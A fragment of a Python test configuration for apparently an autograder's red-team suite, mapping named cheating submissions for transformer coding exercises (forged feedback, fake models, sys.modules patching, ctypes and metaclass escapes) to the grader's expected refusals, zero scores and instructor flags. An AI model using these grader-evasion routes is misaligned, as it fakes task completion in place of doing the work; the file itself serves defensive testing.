        "buffer_made_ahead": {"scaled_dot_product_attention": LOOP, "blockwise_attention": BUFFER_AHEAD},
        "setup_import_page_cache": {**SETUP_IMPORT, "blockwise_attention": PAGE_CACHE},
        "getattr_alias_inline_loop": {"scaled_dot_product_attention": GETATTR_ALIAS,
                                      "MultiHeadAttention": MHA_INLINE_LOOP},
        "module_default": {"scaled_dot_product_attention": MODULE_DEFAULT},
        "tuple_alias": {"scaled_dot_product_attention": TUPLE_ALIAS},
        "jit_registry": {"scaled_dot_product_attention": JIT_REGISTRY},
        "kills_the_parts_forges_feedback": {"MultiHeadAttention": MHA_KILLS_THE_PARTS,
                                            "causal_mask": FORGE_FEEDBACK},
        "overrides_route": {"MultiHeadAttention": OVERRIDES_MHA},
        "main_refusals": {"blockwise_attention": MAIN_REFUSALS},
        "alias_chain": {"scaled_dot_product_attention": ALIAS_CHAIN},
        "ctypes_and_set_name_escapes": {"scaled_dot_product_attention": XPU_CTYPES,
                                        "MultiHeadAttention": SET_NAME_ESCAPE},
    },
    "residual": {
        "control": {"TransformerBlock": IN_PLACE},
        "native_ln_forged_args": {"LayerNorm": NATIVE_LN, "TransformerBlock": IN_PLACE_FORGED},
        "in_place_put_back": {"TransformerBlock": IN_PLACE_PUT_BACK},
        "decomp_route": {"LayerNorm": DECOMP_LN},
        "mro_entries_escape": {"LayerNorm": MRO_ENTRIES_ESCAPE},
        "resolve_bases_escape": {"LayerNorm": RESOLVE_BASES_ESCAPE},
        "module_buffers_escape": {"LayerNorm": MODULE_BUFFERS_ESCAPE},
        "spines_escape": {"LayerNorm": SPINES_ESCAPE},
    },
    "residual/data": {
        "control": {"TransformerBlock": IN_PLACE_THROUGH_DATA},
        "in_place_with_autograd": {"TransformerBlock": IN_PLACE_WITH_AUTOGRAD},
    },
    "transformer": {
        "control": {"TinyTransformer": NO_GRAD_MODEL},
        "knows_the_task": {"TinyTransformer": FAKE_MODEL},
        "fake_names": {"TinyTransformer": FAKE_MODEL_NAMED},
        "hook_reads_k": {"TinyTransformer": HOOK_READS_K},
        "side_parameters": {"TinyTransformer": SIDE_PARAMETERS},
        "heavy_drawing": {"TinyTransformer": HEAVY_DRAWING},
    },
    "transformer/pasted": {
        "control": {"MultiHeadAttention": SLOW_PASTED},
        "right_where_looked": {"MultiHeadAttention": RIGHT_WHERE_LOOKED},
    },
}

# attacker -> graded cells scored 0 for a library version, with its name: proven by the reading of the code, or refused
# where it was called (a name computed while the code runs meets the same policy: autograder.inside.guard), or
# refused where the cell ran, so that the part was never defined (the learner is told which cell stopped, and why)
LIBRARY = {
    "precompute_aten": {"blockwise_attention_tests": "torch.ops.aten.scaled_dot_product_attention"},
    "c_route_getattr": {"scaled_dot_product_attention_tests": "torch._C._nn.scaled_dot_product_attention",
                        "MultiHeadAttention_tests": "torch.nn.functional.scaled_dot_product_attention"},
    # the block's tests with the learner's own LayerNorm meet the refusal too
    "native_ln_forged_args": {"LayerNorm_tests": "torch.native_layer_norm",
                              "TransformerBlock_tests": "torch.native_layer_norm"},
    # refused where its cell ran: the metaclass's class statement, so LayerNorm was never defined
    "mro_entries_escape": {"LayerNorm_tests": "a class derived from type"},
    "resolve_bases_escape": {"LayerNorm_tests": "types.resolve_bases"},
    "setup_import_page_cache": {
        "scaled_dot_product_attention_tests": "torch.nn.functional.scaled_dot_product_attention"},
    "getattr_alias_inline_loop": {
        "scaled_dot_product_attention_tests": "torch.nn.functional.scaled_dot_product_attention"},
    "module_default": {"scaled_dot_product_attention_tests": "torch.nn.functional.scaled_dot_product_attention",
                       "MultiHeadAttention_tests": "torch.nn.functional.scaled_dot_product_attention"},
    "tuple_alias": {"scaled_dot_product_attention_tests": "torch.nn.functional.scaled_dot_product_attention",
                    "MultiHeadAttention_tests": "torch.nn.functional.scaled_dot_product_attention"},
}
# attacker -> graded cells whose automatic score may pass the control's because only a reading of the code can
# settle them: those cells are flagged, so that score waits for the instructor. (None now: every route the red teams
# found is refused where it runs, so no part of theirs scores more than the control's.)
PROVISIONAL: dict[str, set[str]] = {}
# attacker -> (what the flag for the instructor names, the cells flagged): the graded parts whose own code (or code
# they name) reaches what a reading cannot follow
FLAGGED = {
    "patch_worker_clear_refs": ("uses open", {"blockwise_attention_tests"}),
    "reaped_children_forked_memory": ("os.fork", {"blockwise_attention_tests"}),
    "c_route_getattr": ("getattr() on the module torch.nn.functional with a name built while the code runs",
                        {"MultiHeadAttention_tests"}),
    "overrides_route": ("torch.overrides", {"MultiHeadAttention_tests"}),
    "setup_import_page_cache": ("os.posix_fadvise", {"blockwise_attention_tests"}),
    "in_place_put_back": ("weakref.ref", {"TransformerBlock_tests"}),
    "main_refusals": ("uses vars", {"blockwise_attention_tests"}),
    "decomp_route": ("torch._decomp", {"LayerNorm_tests"}),
}
# attacker -> (what the note names, the cells noted): code that runs when its cell runs (module level, defaults) is
# no graded part's use; it is refused where it runs (the cell stops there), and the parts of its cell say what it used,
# never flagged
NOTED = {
    "patch_worker_clear_refs": ("sys.modules", {"scaled_dot_product_attention_tests"}),
    "reaped_children_forked_memory": ("signal.signal", {"scaled_dot_product_attention_tests"}),
    "native_ln_forged_args": ("sys.modules", {"TransformerBlock_tests"}),
    "getattr_alias_inline_loop": ("getattr as a value", {"scaled_dot_product_attention_tests"}),
    "module_default": ("uses the module torch.nn.functional as a value", {"scaled_dot_product_attention_tests"}),
    "tuple_alias": ("uses the module torch.nn.functional as a value", {"scaled_dot_product_attention_tests"}),
    "jit_registry": ("torch._C", {"scaled_dot_product_attention_tests"}),
    "setup_import_page_cache": ("torch.nn.functional.scaled_dot_product_attention",
                                {"MultiHeadAttention_tests", "causal_mask_tests"}),
    "kills_the_parts_forges_feedback": ("os.getppid", {"causal_mask_tests"}),
    "main_refusals": ("__main__", {"blockwise_attention_tests"}),
}
